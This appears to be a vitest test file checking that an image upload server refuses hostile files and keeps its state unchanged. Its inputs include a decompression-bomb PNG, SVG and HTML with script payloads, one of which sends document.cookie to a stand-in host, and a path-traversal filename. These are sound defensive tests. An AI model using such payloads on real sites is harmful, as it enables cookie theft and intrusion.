import { readdir } from 'node:fs/promises';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { blobNames, fitCard, phonePhoto, pngBomb, tmpNames, uploadBytes } from '../support/media.ts';
import { startTestServer, type TestServer } from '../support/server.ts';

describe('hostile uploads', () => {
  let server: TestServer;

  beforeAll(async () => {
    server = await startTestServer('sqlite', { env: { MAX_UPLOAD_MB: '2' } });
  });
  afterAll(async () => {
    await server.stop();
  });

  /** Everything an upload could change: the asset list, the renditions, the blobs and the store's tmp/. */
  async function state(): Promise<string> {
    const assets = await server.app.db.selectFrom('assets').selectAll().orderBy('id').execute();
    const renditions = await server.app.db.selectFrom('renditions').selectAll().orderBy('key').execute();
    return JSON.stringify({
      assets,
      renditions,
      blobs: await blobNames(server.dataDir),
      tmp: await tmpNames(server.dataDir),
      dataDir: (await readdir(server.dataDir)).sort(),
    });
  }

  async function refused(bytes: Buffer, status: number, code: string, message: RegExp): Promise<void> {
    const before = await state();
    const res = await uploadBytes(server, 'ảnh.png', bytes);
    expect(res.status).toBe(status);
    expect(res.body.error?.code).toBe(code);
    expect(res.body.error?.message).toMatch(message);
    expect(await state()).toEqual(before);
  }

  beforeAll(async () => {
    // Something already there, so "changes nothing" has something to keep.
    expect((await uploadBytes(server, 'có sẵn', await fitCard(300))).status).toBe(201);
  });

  it('refuses a decompression bomb (a small PNG declaring 50000×50000 pixels) before decoding it', async () => {
    const bomb = pngBomb(50_000, 50_000);
    expect(bomb.length).toBeLessThan(1024 * 1024);
    await refused(bomb, 422, 'image_too_large', /50000×50000.*2500\.0 megapixels.*limit of 100 megapixels/);
  });

  it('refuses an SVG carrying a script, whatever it is called', async () => {
    const svg = Buffer.from(
      '<?xml version="1.0" encoding="UTF-8"?>\n<!-- exported -->\n' +
        '<svg xmlns="http://www.w3.org/2000/svg" width="800" height="500" onload="alert(1)">' +
        '<script>fetch("https://example.invalid/?" + document.cookie)</script>' +
        '<rect width="800" height="500" fill="red"/></svg>',
    );
    await refused(svg, 415, 'unsupported_media', /SVG images are refused.*scripts/);
    // Also with a byte-order mark and leading blank lines, or with no XML declaration.
    await refused(Buffer.concat([Buffer.from('\ufeff\n\n'), svg]), 415, 'unsupported_media', /SVG/);
    await refused(Buffer.from('<svg><script>alert(1)</script></svg>'), 415, 'unsupported_media', /SVG/);
  });

  it('refuses HTML and other markup posing as an image', async () => {
    await refused(
      Buffer.from('<!doctype html><html><script>alert(1)</script></html>'),
      415,
      'unsupported_media',
      /markup \(HTML or XML\)/,
    );
  });

  it('refuses images whose pixel data is truncated or corrupt, and keeps no bytes of them', async () => {
    const png = await sharp({
      create: {
        width: 600,
        height: 400,
        channels: 3,
        background: '#000000',
        noise: { type: 'gaussian', mean: 128, sigma: 40 },
      },
    })
      .png()
      .toBuffer();
    await refused(
      png.subarray(0, Math.floor(png.length * 0.6)),
      415,
      'unsupported_media',
      /cannot be decoded/,
    );
    const jpeg = await phonePhoto();
    await refused(
      jpeg.subarray(0, Math.floor(jpeg.length * 0.5)),
      415,
      'unsupported_media',
      /cannot be decoded/,
    );
  });

  it('refuses an upload over MAX_UPLOAD_MB, naming the limit', async () => {
    const big = Buffer.concat([await fitCard(200), Buffer.alloc(3 * 1024 * 1024)]);
    await refused(big, 413, 'too_large', /limit of 2 MB \(MAX_UPLOAD_MB\)/);
  });

  it('never uses the uploaded name as a path', async () => {
    const before = (await readdir(server.dataDir)).sort();
    const res = await uploadBytes(server, '../../../evil.png', await fitCard(120));
    expect(res.status).toBe(201);
    expect(res.body.name).toBe('../../../evil.png');
    expect((await readdir(server.dataDir)).sort()).toEqual(before);
    expect(await blobNames(server.dataDir)).toContain(res.body.sha256);
  });
});
